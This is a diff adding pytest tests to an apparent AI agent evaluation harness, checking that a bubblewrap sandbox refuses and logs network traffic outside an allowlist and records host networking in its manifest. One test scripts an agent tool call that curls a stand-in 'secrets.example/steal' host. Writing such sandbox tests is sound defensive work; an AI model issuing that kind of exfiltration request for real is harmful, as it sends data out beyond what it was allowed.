@@ -2,6 +2,7 @@
 
 import json
 import shutil
+import socket
 from collections.abc import Callable
 from pathlib import Path
 
@@ -189,3 +190,58 @@ def test_the_shell_agent_completes_its_loop_with_a_real_model(tmp_path: Path) ->
     assert attempt.status is Status.COMPLETED, attempt.fault
     assert attempt.score is not None  # whether it solves the task is the model's affair
     assert attempt.spent.requests >= 1
+
+
+def test_what_an_agent_was_refused_is_in_its_log_and_in_the_notes_of_the_trial(
+    tmp_path: Path,
+) -> None:
+    task = write_fix_add(tmp_path, settings='[box]\nnetwork = ["pypi.org"]\n')
+    ask = "curl -s http://secrets.example/steal?x=1 http://127.0.0.2/"
+    run = bakeoff.run(task, models=[_plays(_calls(ask), _calls(FIX), _says("Done."))],
+                      sandbox="bubblewrap", output=tmp_path / "runs")  # fmt: skip
+    attempt = _only(run)
+    assert attempt.passed
+    assert attempt.outcome is not None
+    refused = attempt.outcome.notes["refused_traffic"]
+    assert [line.split()[0] for line in refused] == ["secrets.example:80", "127.0.0.2:80"]
+    assert "refused traffic: secrets.example:80 is not among" in str(attempt.outcome.log)
+
+
+def test_a_network_that_the_sandbox_cannot_give_is_refused_before_the_first_request(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    tools = tmp_path / "bin"
+    tools.mkdir()
+    for name in ("git", "sh", "bwrap"):
+        (tools / name).symlink_to(shutil.which(name) or name)
+    monkeypatch.setenv("PATH", str(tools))
+    task = write_fix_add(tmp_path, settings="[box]\nnetwork = true\n")
+    asked: list[Request] = []
+
+    def model(request: Request) -> Completion:
+        asked.append(request)
+        return _says("x")
+
+    with pytest.raises(UsageError, match="slirp4netns"):
+        bakeoff.run(task, models=[model], sandbox="bubblewrap", output=tmp_path / "runs")
+    assert not asked
+    assert not (tmp_path / "runs").exists()
+
+
+def test_the_host_s_network_is_the_operator_s_word_and_stands_in_the_manifest(
+    tmp_path: Path,
+) -> None:
+    write_fix_add(tmp_path, settings="[box]\nnetwork = true\n")
+    file = tmp_path / "run.toml"
+    file.write_text(
+        'suites = ["fix-add"]\n[sandbox]\nname = "bubblewrap"\nsettings = { network = "host" }\n'
+    )
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        ask = f"curl -s -m 1 http://127.0.0.1:{server.getsockname()[1]}/"
+        run = bakeoff.run(file, models=[_plays(_calls(ask), _calls(FIX), _says("Done."))],
+                          output=tmp_path / "runs")  # fmt: skip
+        server.settimeout(0)
+        server.accept()[0].close()
+    assert _only(run).passed
+    manifest = json.loads((run.folder / "manifest.json").read_text())
+    assert manifest["sandbox"] == {"name": "bubblewrap", "settings": {"network": "host"}}
